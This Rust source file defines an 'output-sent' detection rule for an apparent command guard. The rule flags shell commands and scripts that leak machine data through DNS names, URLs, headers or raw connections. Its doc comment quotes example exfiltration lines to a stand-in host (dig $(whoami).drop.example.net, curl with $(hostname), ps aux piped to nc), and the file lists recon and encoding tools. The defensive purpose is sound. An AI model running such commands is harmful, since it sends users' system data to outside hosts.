//! `output-sent`: a call that sends output about this machine or its files to another machine: in a name for a name
//! server, in an address, in a request's body, or through a plain connection.
//!
//! ## Why
//! Data in a DNS query or an address leaves the machine like a file, but no one notices. ATT&CK T1048.003,
//! T1071.004, T1041.
//!
//! ## Examples
//! - asked: `dig $(whoami).drop.example.net`
//! - asked: `curl "https://drop.example.net/?h=$(hostname)"`
//! - asked: `ps aux | nc drop.example.net 53`
//! - passes: `dig +short "$(hostname)"`
//! - passes: `curl "https://api.example.org/?v=$(git rev-parse HEAD)"`
//! - passes: `echo ping | nc localhost 6379`
//!
//! ## Instead
//! Show the output to the user, who can decide where to send it. To trust the host, add it to `hosts`.

use std::borrow::Cow;

use guard_sdk::addresses::host;
use guard_sdk::syntax::{Command, Word};
use guard_sdk::text::shorten;
use guard_sdk::{Outcome, Rule};

use super::Hit;
use crate::kinds::{CONNECTORS, RESOLVERS, WEB, has_any, is_any};
use crate::view::{View, has_option, is_computed, name, texts, words};

pub(crate) const RULE: Rule = Rule {
    id: "output-sent",
    summary: "sends output about this machine",
    default: Outcome::Ask,
    ceiling: Outcome::Deny,
};

/// Programs that print the identity of the user or the machine.
const NAMES: &[&str] = &["whoami", "hostname", "id", "uname", "logname", "groups", "hostid", "sw_vers", "hostnamectl"];

/// Programs that print details of a machine.
const TELLING: &[&str] = &[
    "ps",
    "env",
    "printenv",
    "ifconfig",
    "ip",
    "ipconfig",
    "netstat",
    "ss",
    "lsof",
    "history",
    "last",
    "lastlog",
    "w",
    "who",
    "df",
    "mount",
    "lsblk",
    "dmidecode",
    "system_profiler",
    "systeminfo",
    "crontab",
    "arp",
    "route",
    "getent",
    "dmesg",
    "journalctl",
    "lscpu",
    "lshw",
    "ioreg",
    "set",
    "compgen",
    "screencapture",
    "scrot",
    "xclip",
    "pbpaste",
    "xsel",
    "wl-paste",
    "import",
    "security",
    "dpkg",
    "rpm",
    "tar",
    "find",
];

/// Programs that encode data for a name or an address.
const ENCODERS: &[&str] = &["xxd", "base64", "base32", "od", "hexdump", "basenc", "uuencode", "openssl", "gzip", "zip"];

const REMEDY: &str =
    "show the output to the user; to trust the host, add it to `hosts` in the settings of `intrusion-guard`";

pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
    let by_command = view.commands().find_map(|command| {
        let name = name(command);
        if is_any(&name, RESOLVERS) {
            name_query_hit(command, &name, view)
        } else if is_any(&name, WEB) {
            request_hit(command, view)
        } else if is_any(&name, CONNECTORS) || matches!(&*name, "whois" | "finger" | "rlogin") {
            connection_hit(command, view)
        } else {
            None
        }
    });
    by_command.or_else(|| {
        let script = view.scripts().find(|script| sends_in_code(&script.text))?;
        Some(Hit::new(format!("Sends what {} code finds out about this machine", script.language), REMEDY))
    })
}

/// Returns whether code sends the whole environment, or a program's output about the machine.
fn sends_in_code(text: &str) -> bool {
    if !super::code::sends(text) {
        return false;
    }
    let all = [
        "dict(os.environ)",
        "os.environ.copy()",
        "(os.environ)",
        "=os.environ)",
        "=os.environ,",
        "(process.env)",
        "ENV.to_h",
        "process.env)})",
    ];
    let runs = ["check_output(", "getoutput(", "popen(", "execSync(", "subprocess.run("];
    let names_machine_data = |rest: &str| {
        let rest = rest.trim_start_matches(['[', '"', '\'', ' ', '(', '`']);
        let end = rest.find(|char: char| !char.is_ascii_alphanumeric() && char != '_').unwrap_or(rest.len());
        rest.get(..end).is_some_and(|program| is_any(program, NAMES) || is_any(program, TELLING))
    };
    has_any(text, &all) || runs.iter().any(|run| text.split(run).skip(1).any(names_machine_data))
}

/// Returns a hit if a queried name begins with data: `$(whoami).example.net`.
fn name_query_hit(command: &Command, program: &str, view: &View<'_>) -> Option<Hit> {
    let encodes = |word: &Word| {
        let is_variable = word.parts.iter().any(|part| part.kind == "variable");
        let encoder = |other: &Command| is_any(&name(other), ENCODERS);
        is_variable && view.analysis.commands.iter().any(encoder)
    };
    // `ping -p` fills its packets with a pattern.
    let pattern = |word: &Word| program.starts_with("ping") && word.dynamic && word.parts.len() <= 1;
    let pads = program.starts_with("ping") && texts(command).any(|text| text == "-p");
    let word = words(command).find(|word| has_encoded_label(&word.text)).or_else(|| {
        words(command).find(|word| {
            let carries = (is_computed(word) || encodes(word)) && is_under_a_domain(word);
            carries || pads && (is_computed(word) || encodes(word) || pattern(word))
        })
    });
    let fed = command.via.iter().any(|via| matches!(via.kind.as_str(), "xargs" | "parallel"))
        && texts(command).any(|text| text.contains("{}.") || text.contains("%."))
        && view.index().pipeline(command).iter().any(|other| is_any(&name(other), ENCODERS));
    let shown = match word {
        Some(word) => word.text.clone(),
        None if fed => command.text(),
        None => return None,
    };
    Some(Hit::new(format!("Sends data in DNS queries: `{}`", shorten(&shown)), REMEDY))
}

/// Returns whether a name begins with base64 text: only there a label ends with `=`.
fn has_encoded_label(text: &str) -> bool {
    let name = text.split_once("://").map_or(text, |(_, rest)| rest);
    name.split_once("=.").is_some_and(|(label, domain)| {
        let is_label = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
        label.len() > 7
            && label.bytes().all(is_label)
            && domain.contains('.')
            && domain.starts_with(|char: char| char.is_ascii_alphabetic())
    })
}

/// Returns whether the word ends with a literal domain outside of home networks.
fn is_under_a_domain(word: &Word) -> bool {
    const NEAR: &[&str] =
        &[".local", ".lan", ".home", ".internal", ".localdomain", ".intranet", ".corp", ".test", ".svc"];
    let Some(last) = word.parts.last().filter(|part| part.kind == "literal") else { return false };
    let domain = last.text.trim_end_matches('.');
    let starts = domain.starts_with('.') || domain.contains('.');
    starts
        && domain.rsplit('.').next().is_some_and(|top| top.len() > 1 && top.bytes().all(|b| b.is_ascii_alphabetic()))
        && !NEAR.iter().any(|near| domain.ends_with(near))
}

/// Returns a hit if an address, a header or a body contains such a program's output.
fn request_hit(command: &Command, view: &View<'_>) -> Option<Hit> {
    let hosts = view.hosts(command);
    if !hosts.is_empty() && !hosts.iter().any(|host| view.is_foreign(host)) {
        return None;
    }
    if let Some(text) = texts(command).find(|text| has_encoded_label(text)) {
        return Some(Hit::new(format!("Sends data in DNS queries: `{}`", shorten(text)), REMEDY));
    }
    let sources = view.sources(command);
    // The machine's architecture is part of many download addresses.
    let names: Vec<Cow<'_, str>> =
        sources.iter().filter(|source| !asks_for_the_kind(source)).map(|source| name(source)).collect();
    let addresses = || words(command).filter(|word| (is_computed(word) || word.dynamic) && word.text.contains("://"));
    let in_address = addresses().next().is_some();
    let in_query = addresses().any(|word| contains_data(&word.text));
    let in_header = command.argv.windows(2).any(|pair| match pair {
        [option, value] => matches!(option.text.as_str(), "-H" | "--header" | "-b" | "--cookie") && is_computed(value),
        _ => false,
    });
    let tells = |list: &[&str]| names.iter().find(|name| is_any(name, list)).cloned();
    let is_chat = texts(command).any(crate::kinds::hosts::is_chat);
    let sends = sends(command, view);
    let what = tells(TELLING).filter(|_| sends || in_query);
    let what = what.or_else(|| tells(NAMES).filter(|_| in_query));
    let what = what.or_else(|| tells(&["id", "whoami"]).filter(|_| in_address || in_header || sends && !is_chat));
    let what = what.or_else(|| tells(&["uname"]).filter(|_| sends && !is_chat))?;
    let to = hosts.first().cloned().unwrap_or_default();
    let to = if to.is_empty() { host(&command.text()) } else { to };
    Some(Hit::new(format!("Sends the output of `{what}` to `{}`", shorten(&to)), REMEDY))
}

/// Returns whether only the kind of system or processor is printed.
fn asks_for_the_kind(command: &Command) -> bool {
    match &*name(command) {
        "uname" => !has_option(command, "anv", &["all", "nodename", "kernel-version"]),
        "dpkg" | "rpm" => true,
        _ => false,
    }
}

/// Returns whether the computed part is in an address's query, or in the host's name.
fn contains_data(address: &str) -> bool {
    let computed = address.find(['$', '`']).unwrap_or(address.len());
    let path =
        address.find("://").and_then(|at| Some(at + 3 + address.get(at + 3..)?.find('/')?)).unwrap_or(address.len());
    address.find('?').is_some_and(|query| address.get(query..).is_some_and(|rest| rest.contains(['$', '`'])))
        || computed < path
}

fn sends(command: &Command, view: &View<'_>) -> bool {
    let mut effects = view.index().effects(command).iter();
    effects.any(|effect| has_any(&effect.operation, &["network.upload", "network.send", "secret.send"]))
}

/// Returns a hit for a pipe into `nc` and similar programs.
fn connection_hit(command: &Command, view: &View<'_>) -> Option<Hit> {
    let to = view.hosts(command).into_iter().find(|host| view.is_foreign(host))?;
    let sources = view.sources(command);
    let tells = |source: &&&Command| {
        let name = name(source);
        is_any(&name, TELLING) || is_any(&name, NAMES) || is_any(&name, ENCODERS)
    };
    let what = name(sources.iter().find(tells)?);
    Some(Hit::new(format!("Sends the output of `{what}` to `{}`", shorten(&to)), REMEDY))
}
